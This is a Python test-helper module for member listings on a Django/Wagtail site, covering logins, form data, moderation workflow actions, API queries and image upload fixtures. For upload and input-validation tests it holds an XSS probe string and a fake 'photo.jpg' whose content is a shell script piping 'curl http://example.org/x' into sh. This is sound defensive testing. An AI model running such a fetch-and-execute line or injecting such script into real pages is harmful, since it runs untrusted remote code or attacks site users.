"""Users, forms and requests shared by the test_member_listings_* modules."""

import datetime
import io
import os

from bs4 import BeautifulSoup
from PIL import Image as PILImage

from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from wagtail.images import get_image_model
from wagtail.models import TaskState, WorkflowState

from cooperation.models import (
    ListingPage,
    ListingTerm,
    ResourceCategory,
)
from directory.models import StructurePage
from tests.forms import displayed_form_data

MEMBER_A = "membre-roue-libre"  # member of structure A (roue-libre)
MEMBER_B = "membre-jardins"  # member of structure B (jardins-du-maine)
MODERATOR = "moderation"
EDITOR = "redaction"
LISTINGS = "/fr/espace-membre/annonces/"
SCRIPT = "<script>alert(1)</script>"
Image = get_image_model()


# --------------------------------------------------------------------------- helpers

def user(username: str):
    return get_user_model().objects.get(username=username)


def structure(slug: str) -> StructurePage:
    return StructurePage.objects.get(slug=slug, locale__language_code="fr")


def today() -> datetime.date:
    return timezone.localdate()


def login(client, username: str):
    client.force_login(user(username))
    return client


def other_client(client, username: str):
    return login(client.__class__(), username)


def listing_data(**changes) -> dict:
    data = {
        "title": "Perceuse à colonne à prêter",
        "summary": "Une perceuse d'atelier, à venir chercher à Laval.",
        "description": "Bon état.\n\nPrêt pour une semaine.",
        "category": ResourceCategory.objects.get(locale__language_code="fr", slug="materiel").pk,
        "terms": [ListingTerm.objects.get(code="loan").pk, ListingTerm.objects.get(code="gift").pk],
        "price": "Gratuit",
        "quantity": "1",
        "city": "Laval",
        "territory": "",
        "expires_on": (today() + datetime.timedelta(days=60)).isoformat(),
        "tags": "outillage, atelier",
        "available_from": "",
        "available_until": "",
        "action": "submit",
    }
    data.update(changes)
    return data


def post_new(client, kind: str = "offer", **changes):
    data = listing_data(**changes)
    if "structure" not in data:
        data["structure"] = structure("roue-libre").pk
    return client.post(reverse("members:new_listing", args=[kind]), data)


def created(title: str = "Perceuse à colonne à prêter") -> ListingPage:
    return ListingPage.objects.get(title=title).specific


def form_data(client, listing: ListingPage) -> dict:
    """What the member's browser sends back: the edit form as displayed."""
    response = client.get(reverse("members:edit_listing", args=[listing.pk]))
    assert response.status_code == 200
    return displayed_form_data(response.content)


def edit(client, listing: ListingPage, action: str = "submit", files=None, **changes):
    data = form_data(client, listing)
    data.update(changes, action=action)
    if files:
        data["new_images"] = files
    return client.post(reverse("members:edit_listing", args=[listing.pk]), data)


def pending_task(page) -> TaskState:
    return WorkflowState.objects.active().for_instance(page).get().current_task_state


def admin_action(client, page, action: str, comment: str = ""):
    task = pending_task(page)
    url = reverse("wagtailadmin_pages:workflow_action", args=[page.pk, action, task.pk])
    return client.post(url, {"comment": comment} if comment else {})


def rows(client) -> dict[int, BeautifulSoup]:
    response = client.get(LISTINGS)
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    return {int(row["id"].split("-")[1]): row for row in soup.select("tr.listing-row")}


def live_listing_of(slug: str) -> ListingPage:
    """An open, published demo listing of this structure."""
    owner = structure(slug)
    return (
        ListingPage.objects.open().filter(structure=owner, locale_id=owner.locale_id)
        .exclude(expires_on__lte=today() + datetime.timedelta(days=7))
        .order_by("pk").first().specific
    )


def public_text(client, url: str) -> str:
    return client.get(url).content.decode()


def api_titles(client, kind: str = "cooperation.OfferPage") -> list[str]:
    data = client.get(f"/api/v2/pages/?type={kind}&limit=100&fields=title").json()
    return [item["title"] for item in data["items"]]


def api_ids(client, kind: str = "cooperation.OfferPage") -> list[int]:
    data = client.get(f"/api/v2/pages/?type={kind}&limit=100").json()
    return [item["id"] for item in data["items"]]


def png(width: int = 400, height: int = 300, name: str = "photo.png", mode: str = "RGB"):
    buffer = io.BytesIO()
    PILImage.new(mode, (width, height), "white" if mode == "RGB" else 1).save(buffer, "PNG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/png")


def expire_soon(listing: ListingPage, days: int) -> ListingPage:
    listing.expires_on = today() + datetime.timedelta(days=days)
    listing.save()  # also sets Wagtail's expire_at
    return listing


def lying_script():
    return SimpleUploadedFile(
        "photo.jpg", b"#!/bin/sh\ncurl http://example.org/x | sh\n", content_type="image/jpeg"
    )


def huge_png():
    """A real 20 MB image (random pixels do not compress)."""
    buffer = io.BytesIO()
    PILImage.frombytes("RGB", (2600, 2600), os.urandom(2600 * 2600 * 3)).save(
        buffer, "PNG", compress_level=0
    )
    assert buffer.tell() > 20_000_000
    return SimpleUploadedFile("grande.png", buffer.getvalue(), content_type="image/png")
